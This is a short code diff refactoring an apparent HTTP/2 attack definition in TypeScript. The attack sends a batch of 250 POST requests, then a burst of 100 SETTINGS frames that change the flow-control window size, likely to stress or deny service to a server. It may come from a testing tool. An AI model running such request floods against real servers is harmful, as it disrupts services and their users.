@@ -16,13 +16,7 @@ export const attack: Attack = {
       const changes = Buffer.concat(
         Array.from({ length: 100 }, (_, i) => h2.settings([h2.INITIAL_WINDOW_SIZE, i * 1_000])),
       )
-      let begun = false
-      return {
-        next() {
-          if (begun) return changes
-          begun = true
-          return connection.batch(250, post)
-        },
-      }
+      const pieces = [connection.batch(250, post)]
+      return { next: () => pieces.shift() ?? changes }
     }),
 }
